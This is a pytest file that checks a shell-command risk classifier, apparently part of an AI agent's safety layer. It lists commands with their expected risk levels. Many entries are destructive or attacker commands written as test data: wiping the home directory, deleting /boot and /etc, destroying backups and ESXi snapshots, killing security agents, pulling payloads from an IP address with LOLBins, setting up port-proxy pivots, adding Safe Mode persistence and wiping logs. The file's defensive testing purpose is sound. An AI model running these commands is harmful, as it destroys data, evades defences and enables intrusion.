"""Families of the sixth blind slice's misses fixed in general form (issue 14, safety-f6):
each mechanism in spellings other than the blind rows, with look-alikes that must stay low.
The corpus rows with sources are in `sources_f6.tsv` (source column `f6:`)."""

from __future__ import annotations

import pytest

from aintern_ls.safety import RiskLevel, assess
from tests.safety._levels import B, C, D, M, S

CASES: list[tuple[str, str, RiskLevel]] = [
    # A plan file of a destroy is still only a plan; applying it is a change.
    ("terraform plan -destroy -out=gone.tfplan", "bash", S),
    ("tofu plan -destroy -out gone.bin", "bash", S),
    ("terraform destroy -auto-approve", "bash", D),
    ("terraform apply gone.tfplan", "bash", M),
    # Every entry of home, non-recursive, is every file of home.
    ("shred -n 3 -u ~/*", "bash", B),
    ("srm $HOME/*", "bash", B),
    ("rm ${HOME}/*", "bash", B),
    ("shred -u ~/a.txt", "bash", D),
    # Unknown shells and REPLs running `-c CMD` (a `!` escape too).
    ("genie -c 'rm -rf /boot'", "bash", B),
    ("fish-like -c 'rm -rf ~'", "bash", B),
    ("ginsh -c '!rm -rf /etc'", "bash", B),
    ("genie -c 'uname -a'", "bash", M),
    ("python3 -c 'print(1)'", "bash", S),
    # Privilege, pivots, Safe Mode persistence, LOLBin download, URL-scheme install.
    ("capsh --gid=0 --uid=0 -- -c id", "bash", C),
    ("capsh --print", "bash", S),
    ("netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.9", "cmd", C),
    ("netsh interface portproxy show all", "cmd", S),
    (r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\X /ve /d Service", "cmd", C),
    (r"reg query HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network", "cmd", S),
    ("certoc.exe -GetCACAPS https://198.51.100.2/p.dll", "cmd", C),
    ("start ms-appinstaller:?source=https://198.51.100.2/x.msix", "cmd", C),
    ('wmic /node:dc01 process call create "cmd /c whoami"', "cmd", C),
    # Security agents killed through wmic.
    ("wmic process where name='SentinelAgent.exe' call terminate", "cmd", C),
    ("wmic process where name='notepad.exe' call terminate", "cmd", D),
    # Backups: delete, list.
    (
        "tarsnap -d -f nightly",
        "bash",
        B,
    ),  # one named backup deleted: blocked (session-13 convention)
    ("tarsnap --nuke", "bash", B),
    ("tarsnap --list-archives", "bash", S),
    ("kopia snapshot ls", "bash", S),
    (
        "kopia snapshot delete k1 --delete",
        "bash",
        B,
    ),  # one named backup deleted: blocked (session-13 convention)
    ("cmdkey /list", "cmd", S),
    ("cmdkey /delete:srv", "cmd", M),
    # ESXi: every VM's snapshots, execInstalledOnly off, reading the setting.
    (
        "for id in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do "
        "vim-cmd vmsvc/snapshot.removeall $id; done",
        "bash",
        B,
    ),
    # every snapshot of one VM: blocked (session-12 convention; was dangerous)
    ("vim-cmd vmsvc/snapshot.removeall 7", "bash", B),
    ("esxcli system settings advanced set -o /User/execInstalledOnly -i 0", "bash", C),
    ("esxcli system settings advanced list -o /User/execInstalledOnly", "bash", S),
    # Logs by name over the whole system; the project's own logs stay ordinary.
    ("find / -name '*.log' -exec rm -f {} \\;", "bash", C),
    ("find /var -iname '*.log' -delete", "bash", C),
    ("find . -name '*.log' -delete", "bash", D),
    # Escapes out of a temp folder, prefetch.
    ('rm -rf "$TMPDIR/../.."', "bash", B),
    ('rm -rf "$TMPDIR/.."', "bash", C),
    (r"del /q C:\Windows\Prefetch\*", "cmd", C),
    (r"Remove-Item -Recurse C:\Windows\Prefetch\*", "powershell", C),
]


@pytest.mark.parametrize(("command", "shell", "expected"), CASES)
def test_f6_family(command: str, shell: str, expected: RiskLevel) -> None:
    assert assess(command, shell).level is expected, assess(command, shell)
